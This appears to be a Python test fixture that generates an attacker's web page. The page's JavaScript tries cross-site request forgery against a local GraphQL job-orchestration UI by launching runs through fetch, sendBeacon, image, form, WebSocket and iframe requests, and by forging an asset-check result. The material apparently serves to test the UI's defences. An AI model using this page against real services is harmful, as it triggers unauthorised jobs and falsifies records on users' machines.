"""The page of an attacker: everything that a web page can do to a UI on this machine without the user's help."""

from __future__ import annotations

ATTACKS = ("fetch_text", "fetch_get", "form", "image", "beacon")
"""Each tries to launch a run that carries its name."""

PAGE = """<!doctype html><title>busy</title><body><script>
const target = "http://TARGET";
const launch = name => `mutation { launchRun(executionParams: {
    selector: {repositoryLocationName: "trading", repositoryName: "__repository__", jobName: "quick"},
    runConfigData: "{}", executionMetadata: {tags: [{key: "attack", value: "${name}"}]} }) { __typename } }`;
const address = name => `${target}/graphql?query=${encodeURIComponent(launch(name))}`;
const waited = ms => new Promise(done => setTimeout(done, ms));
const results = {};

async function attempt(name, work) {
    try { results[name] = String(await work()); } catch (error) { results[name] = "failed: " + error; }
}
const simple = {mode: "no-cors", credentials: "include"};

async function attack() {
    await attempt("fetch_text", () => fetch(address("fetch_text"),
        {...simple, method: "POST", headers: {"Content-Type": "text/plain"}, body: launch("fetch_text")}));
    await attempt("fetch_get", () => fetch(address("fetch_get"), simple));
    await attempt("report", () => fetch(`${target}/report_asset_check/history?check_name=forged&passed=true`,
        {...simple, method: "POST"}));
    await attempt("beacon", () => navigator.sendBeacon(address("beacon"), "x"));
    await attempt("image", () => new Promise(done => {
        const image = new Image();
        image.onload = image.onerror = () => done("asked");
        image.src = address("image");
    }));
    await attempt("form", () => new Promise(done => {
        const frame = document.createElement("iframe");
        frame.name = "sink";
        document.body.append(frame);
        const form = document.createElement("form");
        Object.assign(form, {method: "POST", enctype: "text/plain", target: "sink", action: address("form")});
        document.body.append(form);
        frame.onload = () => done("sent");
        setTimeout(() => form.submit(), 50);
    }));
    await attempt("websocket", () => new Promise(done => {
        const socket = new WebSocket(target.replace("http", "ws") + "/graphql", "graphql-ws");
        socket.onopen = () => done("open");
        socket.onerror = () => done("refused");
    }));
    await attempt("frame", () => new Promise(done => {
        const frame = document.createElement("iframe");
        frame.name = "shown";
        frame.src = target + "/runs";
        frame.onload = () => done("loaded");
        document.body.append(frame);
    }));
    await waited(500);
    document.title = "done";
}
attack();
</script></body>
"""


def hostile_page(target: str) -> str:
    """The page as HTML; `target` is host:port of the UI that it attacks."""
    return PAGE.replace("TARGET", target)
